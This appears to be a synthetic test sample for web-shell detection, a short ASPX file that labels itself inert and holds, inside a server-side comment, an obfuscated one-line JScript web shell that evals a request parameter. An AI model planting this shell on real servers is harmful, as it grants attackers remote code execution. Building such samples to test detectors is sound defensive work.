<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="Jscript"%><%eval (/*-x-*/Request.Item["q"]/*-x-*/,/*-*/"u"+"n"+"s"+"a"+"f"+"e");%>
--%>
